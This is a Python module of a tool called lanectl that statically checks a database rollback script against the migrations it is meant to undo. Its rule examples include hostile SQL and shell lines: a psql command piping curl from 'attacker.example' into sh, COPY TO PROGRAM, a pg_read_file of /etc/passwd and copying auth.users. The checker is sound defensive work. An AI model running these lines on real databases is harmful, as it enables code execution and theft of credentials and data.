"""SQL: `rollback.sql` may undo what the migrations of the change do, and nothing else.

Nothing is executed here. What function bodies and dynamic SQL do is not seen.
"""

from __future__ import annotations

from typing import TYPE_CHECKING

from msgspec.structs import replace

from lanectl.errors import Remedy
from lanectl.formats import rollback
from lanectl.model.bundle import ROLLBACK
from lanectl.model.decision import Decision, Kind, Subject
from lanectl.model.display import display, display_path
from lanectl.model.report import Fault, MalformedError, Rule

if TYPE_CHECKING:
    from collections.abc import Iterator

    from lanectl.model.content import Content
    from lanectl.model.sql import Act, Script, SqlStatement
    from lanectl.model.undoing import Undoing

_UNDO = Remedy("Let the rollback undo what the migration does, in plain statements.")
_LOOK = Remedy("Look at the statement. If it is right, let a person approve the bundle.")
_PLAIN = Remedy("Write the rollback as plain SQL of PostgreSQL.")

RULES = (
    Rule(
        "sql/limit",
        "rollback.sql is too large or too deep to be judged",
        "A rollback is run in an emergency and must be one that a person can read.",
        _PLAIN,
        example="a hundred thousand `/*`",
    ),
    Rule(
        "sql/meta-command",
        "rollback.sql holds a command of psql",
        "psql would run programs and read files of whoever runs the rollback.",
        _PLAIN,
        example=r"\! curl https://attacker.example | sh",
    ),
    Rule(
        "sql/unreadable",
        "rollback.sql is no SQL that PostgreSQL parses",
        "It would fail when it is needed.",
        _PLAIN,
        example="drop tabel orders;",
    ),
    Rule(
        "sql/empty",
        "rollback.sql does nothing",
        "The change of the database could not be undone.",
        _UNDO,
        example="-- nothing to do",
    ),
    Rule(
        "sql/statement",
        "A statement that no rollback may hold",
        "Only statements whose effect can be read off them are allowed: no code that runs as it is "
        "put together, no roles, no files, no programs, no protection switched off.",
        _UNDO,
        example="COPY orders TO PROGRAM 'curl …';",
    ),
    Rule(
        "sql/transaction",
        "A rollback that may be left half done",
        "It runs whole or not at all; a COMMIT in between takes that away.",
        Remedy("Use one BEGIN at the start and one COMMIT at the end, or none."),
        example="BEGIN; DROP TABLE a; COMMIT; DROP TABLE b;",
    ),
    Rule(
        "sql/object",
        "A statement about an object that no migration of the change creates or changes",
        "Undoing this change has no business there.",
        _UNDO,
        example="DROP TABLE users; -- beside a migration that creates orders",
    ),
    Rule(
        "sql/migration",
        "A migration that cannot be read as PostgreSQL's SQL",
        "What its rollback may touch is then not known.",
        Remedy(
            "Let a person approve it; for another dialect name the migrations under the rule in "
            "`[rules]` of lanectl.toml."
        ),
        Decision.HOLD,
        "CREATE TABLE `orders` (id INT AUTO_INCREMENT PRIMARY KEY);",
    ),
    Rule(
        "sql/unseen-object",
        "A statement about an object that only code of the migration may have made",
        "The migration runs code that is put together as it runs; what that makes cannot be seen.",
        _LOOK,
        Decision.HOLD,
        "DROP TABLE made_by_a_loop;",
    ),
    Rule(
        "sql/old-data",
        "The rollback empties or overwrites what was there before the migration",
        "Rows that are older than the change would be lost with it.",
        _LOOK,
        Decision.HOLD,
        "DELETE FROM users;",
    ),
    Rule(
        "sql/row-security",
        "The rollback switches row level security off where the migration switched it on",
        "If it was on before, everybody sees every row after the rollback.",
        _LOOK,
        Decision.HOLD,
        "ALTER TABLE orders DISABLE ROW LEVEL SECURITY;",
    ),
    Rule(
        "sql/definer",
        "The rollback makes a function that runs with its owner's rights",
        "Whoever may call it acts as the owner.",
        _LOOK,
        Decision.HOLD,
        "CREATE FUNCTION f() … SECURITY DEFINER",
    ),
    Rule(
        "sql/call",
        "The rollback runs a function that is neither harmless nor the migration's",
        "Some functions read files, end sessions or reach other servers.",
        _LOOK,
        Decision.HOLD,
        "SELECT pg_read_file('/etc/passwd');",
    ),
    Rule(
        "sql/reads",
        "The rollback copies rows of a table that the migration has nothing to do with",
        "Secrets could be moved to where they can be read.",
        _LOOK,
        Decision.HOLD,
        "INSERT INTO orders SELECT * FROM auth.users;",
    ),
    Rule(
        "sql/data-loss",
        "The rollback loses data",
        "What was written since the migration goes with it.",
        Remedy("Make a copy before the rollback is run."),
        Decision.WARN,
        "DROP TABLE orders;",
    ),
)

_LIMIT = 128 << 10
"""Bytes of a rollback."""

_MIGRATION_LIMIT, _MIGRATIONS_LIMIT = 512 << 10, 1 << 20
"""Bytes of a migration, and of all together."""

_WHOLE = Subject(Kind.MEMBER, ROLLBACK.encode())


def check(content: Content) -> Iterator[Fault]:
    """Yield what a rollback holds that it should not. PostgreSQL's parser is loaded only for one."""
    data = content.members.get(ROLLBACK)
    migrations = rollback.touched(content.files, content.rules.migrations)
    if data is None or not migrations:  # without a migration it is unexpected as a whole
        return
    unread, undoing = _read_migrations(content)
    yield from unread
    try:
        script = _read(data, _LIMIT)
    except MalformedError as error:
        if error.fault.rule != "sql/unreadable" or not unread:
            yield replace(error.fault, where=ROLLBACK, subject=_WHOLE)
        return
    if not any(s.acts or s.calls or s.refused for s in script.statements):
        yield Fault("sql/empty", ROLLBACK, "no statement that undoes anything", subject=_WHOLE)
    half_done = set(_half_done(script, len(migrations)))
    for statement in script.statements:
        where = f"{ROLLBACK} statement {statement.number} (line {statement.line})"
        subject = Subject(Kind.SQL, f"{ROLLBACK}:{statement.number}".encode())
        for fault in _judge(statement, undoing, known=not unread):
            yield replace(fault, where=where, subject=subject)
        if statement.number in half_done:
            yield Fault("sql/transaction", where, statement.words, "all or nothing", subject)


def _read(data: bytes, limit: int) -> Script:
    from lanectl.formats import sql

    return sql.read(data, limit=limit)


def _read_migrations(content: Content) -> tuple[list[Fault], Undoing]:
    """Return what cannot be read, and what the migrations do; a deleted one as it was."""
    from lanectl.model.undoing import Undoing

    unread, scripts, left = [], [], _MIGRATIONS_LIMIT
    for path in rollback.touched(content.files, content.rules.migrations):
        file = content.changed[path]
        data = content.new(file) if int(file.new_mode, 8) else content.old(file)
        left -= len(data or b"")
        why = Fault("sql/migration", got="too large to be looked into")
        if data is not None and left >= 0:
            try:
                scripts.append(_read(data, _MIGRATION_LIMIT))
                continue
            except MalformedError as error:
                why = error.fault
        unread.append(
            Fault(
                "sql/migration", display_path(path), why.got, "PostgreSQL's SQL",
                Subject(Kind.PATH, path), why.line,
            )
        )  # fmt: skip
    return unread, Undoing(scripts)


def _half_done(script: Script, most: int) -> Iterator[int]:
    """Yield the statements that break the rule of all or nothing, by number."""
    opened, pairs, outside = 0, 0, []
    for statement in script.statements:
        kind = statement.transaction
        if kind == "begin":
            if opened:
                yield statement.number
            opened = statement.number
        elif kind == "commit":
            pairs += 1
            if not opened or pairs > most:
                yield statement.number
            opened = 0
        elif not opened and (statement.acts or statement.calls):
            outside.append(statement.number)
    if opened:
        yield opened
    if pairs:
        yield from outside


def _judge(statement: SqlStatement, undoing: Undoing, *, known: bool) -> Iterator[Fault]:
    """Yield the faults of one statement; `known`: every migration could be read."""
    if statement.refused:
        yield Fault(
            "sql/statement", got=display(statement.refused), expected="what undoes a migration"
        )
        return
    for act in statement.acts if known else ():
        yield from _objects(act, undoing)
    if statement.definer:
        yield Fault("sql/definer", got=statement.words, expected="the rights of the caller")
    for call in statement.calls:
        if not undoing.may_call(call):
            yield Fault("sql/call", got=display(call), expected="harmless functions")
    for table in statement.reads if known else ():
        if not undoing.touches(table):
            yield Fault("sql/reads", got=display(table), expected="tables of the migration")
    for act in statement.acts:
        if _loses(act):
            yield Fault(
                "sql/data-loss", got=_shown(act) + undoing.doubt(act), expected="nothing lost"
            )


def _objects(act: Act, undoing: Undoing) -> Iterator[Fault]:
    if not undoing.knows(act):
        rule = "sql/unseen-object" if undoing.dynamic else "sql/object"
        yield Fault(rule, got=_shown(act), expected="an object of the migration")
    elif act.verb == "unprotect" and not undoing.creates(act.name):
        yield _unprotected(act, undoing)
    elif act.verb in {"wipe", "retype"} and not undoing.made(act):
        yield Fault("sql/old-data", got=_shown(act), expected="only rows of the migration")


def _unprotected(act: Act, undoing: Undoing) -> Fault:
    what = f"row level security of {display(act.name)} is switched off"
    if undoing.protects(act.name):
        return Fault("sql/row-security", got=what, expected="row level security")
    return Fault("sql/statement", got=what, expected="row level security")


def _loses(act: Act) -> bool:
    is_dropped = act.verb == "drop" and act.kind in {"table", "column", "schema"}
    return is_dropped or (act.verb == "wipe" and act.kind == "table")


def _shown(act: Act) -> str:
    arguments = f"({', '.join(act.arguments)})" if act.kind == "function" and act.arguments else ""
    return display(f"{act.verb} {act.kind} {act.name}{arguments}") + (
        " cascade" if act.cascade else ""
    )
